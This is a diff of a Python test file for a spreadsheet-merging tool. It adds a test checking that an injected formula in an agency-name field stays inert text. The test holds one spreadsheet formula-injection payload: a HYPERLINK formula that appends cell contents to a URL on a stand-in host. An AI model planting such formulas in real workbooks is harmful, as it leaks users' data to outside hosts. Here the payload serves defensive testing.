@@ -15,7 +15,10 @@ from cascade_xl.contract import Sheet
 from cascade_xl.contract.merged import BERKAS, OPD
 from cascade_xl.hosts import buttons
 from cascade_xl.model import Status
-from cascade_xl.resources import TEMPLATES, example_names
+from cascade_xl.read.canonical import document
+from cascade_xl.resources import TEMPLATES, example_names, profile
+from cascade_xl.write import build
+from tests.hosts.books import clean_document_json
 from tests.hosts.calc import Calc
 
 HEAD = 5
@@ -128,3 +131,28 @@ def test_a_folder_that_cannot_be_merged(calc: Calc, tmp_path: Path, files: tuple
     buttons.press("gabungkan_folder", "", str(folder).encode("utf-16-be").hex())
     assert said in calc.alerts[0].prompt
     assert [path.name for path in tmp_path.iterdir() if path.suffix == ".xlsx"] == []
+
+
+def test_findings_of_other_sheets_stay_and_count(calc: Calc, tmp_path: Path) -> None:
+    """A text of an OPD's that looks like a link of ours stays a text, too."""
+    attack = '=HYPERLINK("http://contoh.invalid/?"&Matriks!C6,"Dinas")'
+    data = clean_document_json()
+    data["identitas"]["opd"] = attack
+    del data["identitas"]["tempat"]
+    folder = tmp_path / "masuk"
+    folder.mkdir()
+    (folder / "a.xlsx").write_bytes(build(profile(), document(data, profile(), "a.json"), rows=60))
+    calc.new_book()
+    buttons.press("gabungkan_folder", "", str(folder).encode("utf-16-be").hex())
+    book = xw.books["Gabungan masuk.xlsx"]
+    listed = [row["Nomor"] for row in table(book, Sheet.TEMUAN)]
+    assert all(listed)
+    buttons.press("validasi")
+    assert [row["Nomor"] for row in table(book, Sheet.TEMUAN)] == listed
+    assert [alert.prompt for alert in calc.alerts] == []  # it does not say that nothing was found
+    head, at = heading(book, Sheet.TEMUAN, OPD.header)
+    cell = book.sheets[Sheet.TEMUAN].range((head + 1, at))
+    assert cell.value == attack
+    buttons.press("hapus_tanda")
+    assert xw.apps.active is not None
+    assert f"{len(listed)} temuan lembar lain" in str(xw.apps.active.status_bar)
